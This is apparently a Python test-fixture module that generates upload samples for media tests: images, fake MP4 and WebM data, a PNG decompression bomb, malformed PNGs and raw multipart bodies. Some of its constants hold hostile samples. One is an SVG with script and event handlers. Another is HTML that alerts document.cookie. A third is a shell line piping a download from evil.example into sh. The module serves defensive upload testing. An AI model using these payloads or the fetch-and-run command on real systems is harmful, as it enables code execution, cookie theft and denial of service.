"""Files for the media tests, made on the spot: real images, a fake but well-formed MP4, a
decompression bomb, hostile SVGs, and multipart bodies built by hand (so that a filename
can carry bytes a client library would escape)."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import AsyncIterator

from PIL import Image

BOUNDARY = "townsquare-test-boundary-7MA4YWxkTrZu0gW"
CHUNK = 64 * 1024


def png(
    width: int = 1200, height: int = 800, *, color: tuple[int, int, int] = (200, 10, 10)
) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), color).save(out, "PNG")
    return out.getvalue()


def image(kind: str, width: int = 64, height: int = 48) -> bytes:
    """A small image in Pillow's format `kind` (JPEG, GIF, WEBP, AVIF, PNG)."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (10, 120, 200)).save(out, kind)
    return out.getvalue()


def pdf() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (20, 20), (255, 255, 255)).save(out, "PDF")
    return out.getvalue()


GPS_IFD = 0x8825


def jpeg_with_gps(width: int = 2000, height: int = 1200) -> bytes:
    """A JPEG whose EXIF carries a camera make and the place it was taken."""
    exif = Image.Exif()
    exif[0x010F] = "Townsquare Test Camera"
    gps = exif.get_ifd(GPS_IFD)
    gps.update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 1.0)})
    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 160, 60)).save(out, "JPEG", exif=exif)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png_bomb(side: int = 20000) -> bytes:
    """A `side` x `side` 1-bit PNG of nothing but zeros: tens of KB that would decode into
    hundreds of MB. Written chunk by chunk, since making it with Pillow would itself take
    side * side bytes of memory."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte + packed bits
    compressor = zlib.compressobj(9)
    compressed = bytearray()
    for _ in range(side):
        compressed += compressor.compress(row)
    compressed += compressor.flush()
    return (
        PNG_SIGNATURE
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", bytes(compressed))
        + _png_chunk(b"IEND", b"")
    )


def png_lookalike() -> bytes:
    """Starts like a PNG (signature and a valid header) and then is not one."""
    header = struct.pack(">IIBBBBB", 100, 100, 8, 2, 0, 0, 0)
    return PNG_SIGNATURE + _png_chunk(b"IHDR", header) + b"this is not image data " * 40


def truncated_png() -> bytes:
    """The first half of a real PNG (a signature, a header, half the pixels)."""
    whole = png(400, 300, color=(1, 2, 3))
    noisy = io.BytesIO()
    Image.effect_noise((400, 300), 80).convert("RGB").save(noisy, "PNG")
    data = noisy.getvalue()
    assert len(data) > len(whole)
    return data[: len(data) // 2]


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4(size: int = 300 * 1024) -> bytes:
    """`size` bytes: an `ftyp` box (isom/mp41), then an `mdat` box of a byte pattern that
    makes every range tell where it came from."""
    head = _box(b"ftyp", b"isom" + b"\x00\x00\x02\x00" + b"isomiso2avc1mp41")
    body_size = size - len(head) - 8
    pattern = bytes(range(251))  # a prime length, so equal slices at different offsets differ
    payload = (pattern * (body_size // len(pattern) + 1))[:body_size]
    return head + _box(b"mdat", payload)


def webm() -> bytes:
    """An EBML header of a WebM file followed by padding."""
    return bytes.fromhex(
        "1a45dfa39f4286810142f7810142f2810442f381084282847765626d4287810442858102"
    ) + (b"\x00" * 512)


HOSTILE_SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="100" height="100" onload="alert('onload')">
  <script type="text/javascript">alert('script')</script>
  <a xlink:href="javascript:alert('href')"><rect width="50" height="50" fill="red"/></a>
  <use href="https://evil.example/sprite.svg#icon"/>
  <image xlink:href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="/>
  <circle cx="70" cy="70" r="20" fill="blue" onclick="alert('click')"/>
</svg>
"""

ILLUSTRATOR_SVG = b"""<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">
  <rect width="10" height="10" fill="#336699"/>
</svg>
"""

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SHELL_SCRIPT = b"#!/bin/sh\ncurl https://evil.example/x | sh\n"


def multipart_head(
    filename: bytes | str,
    content_type: str | None,
    *,
    fields: dict[str, str] | None = None,
) -> bytes:
    """The form up to the first byte of the file: text fields first, then the file part's
    headers (the filename's bytes go in as they are)."""
    out = bytearray()
    for name, value in (fields or {}).items():
        out += f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
        out += value.encode() + b"\r\n"
    raw_name = filename.encode() if isinstance(filename, str) else filename
    out += f"--{BOUNDARY}\r\n".encode()
    out += b'Content-Disposition: form-data; name="file"; filename="' + raw_name + b'"\r\n'
    if content_type is not None:
        out += f"Content-Type: {content_type}\r\n".encode()
    out += b"\r\n"
    return bytes(out)


MULTIPART_TAIL = f"\r\n--{BOUNDARY}--\r\n".encode()
CONTENT_TYPE = f"multipart/form-data; boundary={BOUNDARY}"


def multipart(
    data: bytes,
    filename: bytes | str,
    content_type: str | None,
    *,
    fields: dict[str, str] | None = None,
) -> bytes:
    return multipart_head(filename, content_type, fields=fields) + data + MULTIPART_TAIL


async def streamed_multipart(
    size: int, filename: str = "big.mp4", content_type: str = "video/mp4"
) -> AsyncIterator[bytes]:
    """A multipart body whose file is an MP4 of `size` bytes, produced chunk by chunk (the
    same chunk object over and over, so producing it allocates nothing)."""
    yield multipart_head(filename, content_type)
    head = _box(b"ftyp", b"isom" + b"\x00\x00\x02\x00" + b"isomiso2avc1mp41")
    yield head + struct.pack(">I", size - len(head)) + b"mdat"
    remaining = size - len(head) - 8
    chunk = b"\x00" * CHUNK
    while remaining > 0:
        if remaining >= CHUNK:
            yield chunk
        else:
            yield chunk[:remaining]
        remaining -= CHUNK
    yield MULTIPART_TAIL
